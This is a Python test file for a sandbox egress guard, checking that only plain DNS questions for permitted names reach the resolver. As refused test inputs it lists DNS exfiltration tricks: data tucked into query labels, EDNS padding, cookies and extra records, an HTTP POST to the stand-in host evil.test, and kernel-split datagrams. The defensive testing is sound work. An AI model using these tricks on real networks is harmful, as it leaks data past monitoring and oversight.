"""Attack 35: data leaves in questions to the permitted resolver. Only a plain question for a permitted name passes."""

from __future__ import annotations

import secrets
import socket
import struct
from collections.abc import Iterator
from pathlib import Path

import dns_messages as dns
import pytest
from casa_node import Node
from casa_runtime import Json
from servers import NameServer, own_network
from workloads import NOBODY, ROOT_USER, Workload, Workloads, outcome

LLM, TOOLS, BELOW = "llm.example.test", "tools.example.test", "svc.cluster.local"
LONG = ".".join(["a" * 63, "b" * 63, "c" * 63, "d" * 54])
"""As long as a policy may name."""
RESOLVER = own_network() + ".54"
RULES: Json = {"llm": {"host": LLM}, "resolve": [TOOLS, f"*.{BELOW}", LONG]}
DATA = secrets.token_hex(20)
REFUSED = "EPERM"


def attack(case: str) -> pytest.MarkDecorator:
    return pytest.mark.attack(35, case, layer="kernel")


@pytest.fixture(scope="module")
def one_name_server() -> Iterator[NameServer]:
    with NameServer(RESOLVER, lambda asked: [dns.answer(asked)]).running() as server:
        yield server


@pytest.fixture
def name_server(one_name_server: NameServer) -> NameServer:
    """What was asked, was asked by this test."""
    one_name_server.asked.clear()
    return one_name_server


@pytest.fixture(scope="module")
def workloads(
    tmp_path_factory: pytest.TempPathFactory, one_name_server: NameServer, variant: list[str]
) -> Iterator[Workloads]:
    node = Node(tmp_path_factory.mktemp("dns"), {}, arguments=variant)
    with Workloads(node, RULES, count=90, shared={"resolvers": [RESOLVER]}).running() as all_of_them:
        yield all_of_them


@pytest.fixture
def workload(workloads: Workloads) -> Workload:
    """One that no other test uses."""
    return workloads.fresh()


def send(message: bytes, connects: bool = False) -> str:
    """Sends a datagram to the resolver, and waits for the answer; a refused packet fails at once."""

    def act() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            datagrams.settimeout(5)
            if connects:
                datagrams.connect((RESOLVER, 53))
                datagrams.send(message)
            else:
                datagrams.sendto(message, (RESOLVER, 53))
            return "answered" if datagrams.recv(4096) else "answered with nothing"

    return str(outcome(act))


def many(name: str, kind: int = dns.A) -> bytes:
    """Two questions in one message."""
    return dns.query(name, kind, counts=(2, 0, 0, 0), more=dns.question(name))


COOKIE = (dns.COOKIE, bytes.fromhex("24a5ac1f0d1b2c3e"))
LONG_COOKIE = (dns.COOKIE, secrets.token_bytes(40))
ONE_MORE = (1, 0, 0, 1)

PERMITTED = {
    "A": dns.query(LLM),
    "AAAA": dns.query(LLM, dns.AAAA),
    "HTTPS": dns.query(LLM, dns.HTTPS),
    "another permitted name": dns.query(TOOLS),
    "mixed letters (0x20)": dns.query("LlM.eXaMPLe.tESt"),
    "EDNS without options": dns.query(LLM, counts=ONE_MORE, more=dns.options()),
    "EDNS with a cookie": dns.query(LLM, counts=ONE_MORE, more=dns.options(COOKIE)),
    "EDNS with a cookie of the longest kind": dns.query(LLM, counts=ONE_MORE, more=dns.options(LONG_COOKIE)),
    "below a permitted suffix": dns.query(f"bank.default.{BELOW}"),
    "far below a permitted suffix": dns.query(f"a.b.c.d.e.{BELOW.upper()}"),
    "a permitted suffix itself": dns.query(BELOW),
    "a long name": dns.query(LONG),
    "without recursion": dns.query(LLM, flags=0),
}


@pytest.mark.parametrize("message", [pytest.param(message, id=name) for name, message in PERMITTED.items()])
def test_a_plain_question_for_a_permitted_name_passes(
    workload: Workload, name_server: NameServer, message: bytes
) -> None:
    for connects in (False, True):
        for user in (ROOT_USER, NOBODY):
            assert workload.run(lambda: send(message, connects), user).value == "answered"
    assert name_server.asked == [message] * 4
    assert not workload.refusals()


NAMES = {
    "a label of data below the LLM's name": f"{DATA}.{LLM}",
    "four labels of data below the LLM's name": ".".join([DATA] * 4 + [LLM]),
    "data below a name that may be asked for": f"{DATA}.{TOOLS}",
    "the LLM's name below another": f"{LLM}.evil.test",
    "the LLM's name as the end of a label": "xllm.example.test",
    "the LLM's domain": "example.test",
    "its top": "test",
    "the root": "",
    "another host": "evil.test",
    "the suffix as the end of a label": f"evil{BELOW}",
    "a name like the suffix's": "bank.svc.cluster.locals",
    "the suffix below another": f"{BELOW}.evil.test",
    "another of the cluster": "bank.default.pod.cluster.local",
    "beside a long name": "x" + LONG[1:],
    "longer than any that may be named": f"{LONG}.e",
    "a reverse name": "1.0.0.127.in-addr.arpa",
}
FORMS = {
    "TXT": dns.query(LLM, dns.TXT),
    "NULL": dns.query(LLM, dns.NULL),
    "ANY": dns.query(LLM, dns.ANY),
    "CNAME": dns.query(LLM, dns.CNAME),
    "MX": dns.query(LLM, dns.MX),
    "SRV": dns.query(LLM, dns.SRV),
    "OPT": dns.query(LLM, dns.OPT),
    "type 0": dns.query(LLM, 0),
    "class CHAOS": dns.query(LLM, in_class=dns.CHAOS),
    "class ANY": dns.query(LLM, in_class=255),
    "two questions": many(LLM),
    "no question": dns.query(LLM, counts=(0, 0, 0, 0)),
    "a question too few": dns.query(LLM, counts=(2, 0, 0, 0)),
    "an answer": dns.query(LLM, flags=dns.RESPONSE),
    "opcode STATUS": dns.query(LLM, flags=2 << 11),
    "opcode NOTIFY": dns.query(LLM, flags=4 << 11),
    "opcode UPDATE": dns.query(LLM, flags=5 << 11),
    "bytes behind the question": dns.query(LLM, more=DATA.encode()),
    "one byte behind the question": dns.query(LLM, more=b"x"),
    "an answer record in the question": dns.query(
        LLM, counts=(1, 1, 0, 0), more=dns.question(f"{DATA}.evil.test") + struct.pack("!IH", 60, 4) + bytes(4)
    ),
    "an authority record": dns.query(
        LLM, counts=(1, 0, 1, 0), more=dns.question(LLM, dns.NS) + struct.pack("!IH", 60, 20) + DATA.encode()[:20]
    ),
    "an additional record": dns.query(
        LLM, counts=ONE_MORE, more=dns.question(LLM, dns.TXT) + struct.pack("!IH", 60, 20) + DATA.encode()[:20]
    ),
    "an option record of a name": dns.query(LLM, counts=ONE_MORE, more=dns.wire(DATA) + dns.options()[1:]),
    "two option records": dns.query(LLM, counts=(1, 0, 0, 2), more=dns.options() * 2),
    "an option record more than is counted": dns.query(LLM, more=dns.options()),
    "an option record counted and missing": dns.query(LLM, counts=ONE_MORE),
    "an option record cut off": dns.query(LLM, counts=ONE_MORE, more=dns.options()[:-1]),
    "bytes behind the option record": dns.query(LLM, counts=ONE_MORE, more=dns.options() + DATA.encode()),
    "an option record longer than it is": dns.query(LLM, counts=ONE_MORE, more=dns.options(COOKIE, room=40)),
    "an option record shorter than it is": dns.query(LLM, counts=ONE_MORE, more=dns.options(COOKIE, room=4)),
    "padding": dns.query(LLM, counts=ONE_MORE, more=dns.options((dns.PADDING, DATA.encode()))),
    "a private option": dns.query(LLM, counts=ONE_MORE, more=dns.options((65001, DATA.encode()[:16]))),
    "a cookie and another option": dns.query(
        LLM, counts=ONE_MORE, more=dns.options(COOKIE, (dns.PADDING, DATA.encode()[:16]))
    ),
    "two cookies": dns.query(LLM, counts=ONE_MORE, more=dns.options(COOKIE, COOKIE)),
    "a cookie too long": dns.query(LLM, counts=ONE_MORE, more=dns.options((dns.COOKIE, bytes(41)))),
    "a cookie too short": dns.query(LLM, counts=ONE_MORE, more=dns.options((dns.COOKIE, bytes(7)))),
    "many options": dns.query(LLM, counts=ONE_MORE, more=dns.options(*[COOKIE] * 20)),
    "no DNS at all": b"POST /collect HTTP/1.1\r\nHost: evil.test\r\n\r\n" + DATA.encode(),
    "random bytes": secrets.token_bytes(256),
    "more than is read": dns.query(LLM, more=bytes(8000)),
    "an empty datagram": b"",
    "one byte": b"x",
    "a header alone": dns.query(LLM)[:12],
    "a question cut off": dns.query(LLM)[:-1],
}
UNREADABLE_NAMES = {
    "a pointer": dns.query(b"\xc0\x0c"),
    "a pointer behind a label": dns.query(b"\x03llm\xc0\x0c"),
    "a label of 64 bytes": dns.query(b"\x40" + b"a" * 64 + dns.wire(LLM)),
    "a bit-string label": dns.query(b"\x41\x08\xff" + dns.wire(LLM)),
    "an end that never comes": dns.query(LLM)[:12] + b"\x3f" + b"a" * 40,
    "the LLM's name and a zero within": dns.query(b"\x04llm\0" + dns.wire("example.test")),
    "a label that ends like the suffix on the wire": dns.query(b"\x08evil\x03svc" + dns.wire("cluster.local")),
    "the LLM's name in one label": dns.query(b"\x10llm.example.test\0"),
}
# Whether something that is no message at all has another name or another form, is the same to us.
EITHER = {"dns_name", "dns_form"}
REFUSALS = {
    **{f"a name: {case}": (dns.query(name), {"dns_name"}) for case, name in NAMES.items()},
    **{f"a name: {case}": (message, {"dns_name"}) for case, message in UNREADABLE_NAMES.items()},
    **{f"a message: {case}": (message, {"dns_form"}) for case, message in FORMS.items()},
    "a message: random bytes": (FORMS["random bytes"], EITHER),
    "a message: a question cut off": (FORMS["a question cut off"], EITHER),
}


@pytest.mark.parametrize(
    ("message", "reasons"),
    [pytest.param(*each, id=case, marks=attack(case)) for case, each in REFUSALS.items()],
)
def test_nothing_but_a_plain_question_for_a_permitted_name_leaves(
    workload: Workload, name_server: NameServer, message: bytes, reasons: set[str]
) -> None:
    for connects in (False, True):
        assert workload.run(lambda: send(message, connects)).value == REFUSED
    assert workload.run(lambda: send(message), NOBODY).value == REFUSED
    told = workload.node.flow(kind="flow_refused", workload=workload.name, hook="egress", remote=f"{RESOLVER}:53")
    assert told["reason"] in reasons
    # The workload may still ask.
    assert workload.run(lambda: send(PERMITTED["A"])).value == "answered"
    assert name_server.asked == [PERMITTED["A"]]


@attack("a question in two parts (UDP_CORK, MSG_MORE)")
def test_a_datagram_is_judged_as_a_whole(workload: Workload, name_server: NameServer) -> None:
    def in_parts(*parts: bytes) -> str:
        def act() -> str:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
                datagrams.settimeout(5)
                datagrams.connect((RESOLVER, 53))
                for part in parts[:-1]:
                    datagrams.send(part, socket.MSG_MORE)
                datagrams.send(parts[-1])
                return "answered" if datagrams.recv(4096) else ""

        return str(outcome(act))

    message = PERMITTED["A"]
    # A permitted one, too: what is put together of parts may be changed by its sender after it was judged.
    for parts in ((message[:20], message[20:]), (message, DATA.encode())):
        assert workload.run(lambda parts=parts: in_parts(*parts)).value == REFUSED
        workload.refused("dns_form", "egress")
    assert not name_server.asked


@attack("a permitted question and data behind it, cut by the kernel (UDP_SEGMENT)")
def test_datagrams_that_the_kernel_cuts_are_judged_before(workload: Workload, name_server: NameServer) -> None:
    message = PERMITTED["A"]

    def act() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            datagrams.setsockopt(socket.IPPROTO_UDP, 103, len(message))
            datagrams.sendto(message + secrets.token_bytes(len(message)), (RESOLVER, 53))
            return "sent"

    assert workload.run(act).value == REFUSED
    workload.refused("dns_form", "egress")
    assert not name_server.asked


@attack("a permitted question with a cookie that is another question, cut by the kernel (UDP_SEGMENT)")
def test_a_question_within_a_cookie_does_not_leave(workload: Workload, name_server: NameServer) -> None:
    hidden = dns.query("fourteen-bytes.evil.io")
    assert len(hidden) == 40
    asked = dns.name_of(PERMITTED["A"])
    message = dns.query(asked, counts=(1, 0, 0, 1), more=dns.options((dns.COOKIE, hidden)))

    def act() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            datagrams.setsockopt(socket.IPPROTO_UDP, 103, len(message) - len(hidden))
            datagrams.sendto(message, (RESOLVER, 53))
            return "sent"

    assert workload.run(act).value == REFUSED
    workload.refused("dns_form", "egress")
    assert not name_server.asked
    # In one piece it is a question like others.
    assert workload.run(lambda: send(message)).value == "answered"


@attack("all of it again, with the guard killed")
def test_a_killed_guard_changes_nothing(tmp_path: Path, name_server: NameServer) -> None:
    node = Node(tmp_path, {})
    cases = ["a name: a label of data below the LLM's name", "a message: TXT", "a message: padding"]
    with Workloads(node, RULES, count=len(cases), shared={"resolvers": [RESOLVER]}).running() as workloads:
        node.kill()
        attacked = []
        for case in cases:
            message, [reason] = REFUSALS[case]
            workload = workloads.fresh()
            assert workload.run(lambda: send(message)).value == REFUSED
            assert workload.run(lambda: send(PERMITTED["A"])).value == "answered"
            attacked.append((workload, reason))
        assert name_server.asked == [PERMITTED["A"]] * len(cases)
        # What nobody was there to read is told by the next one.
        node.start()
        for workload, reason in attacked:
            workload.refused(reason, "egress")
